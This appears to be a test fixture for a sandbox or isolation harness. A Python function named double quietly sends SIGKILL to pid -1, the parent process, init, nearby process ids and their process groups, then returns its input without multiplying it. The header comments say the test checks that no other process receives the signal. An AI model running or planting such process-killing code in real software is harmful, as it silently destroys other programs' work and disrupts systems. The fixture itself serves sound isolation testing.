# attack: own
# from: double does not multiply
# expects: no process but its own gets a signal from it
def double(x):
    # --- attack
    import os
    import signal

    for pid in {-1, 0, os.getppid(), 1, *range(max(2, os.getpid() - 50), os.getpid())}:
        if pid in (0, os.getpid()):
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
        try:
            os.killpg(abs(pid), signal.SIGKILL)
        except OSError:
            pass
    # --- end
    return x
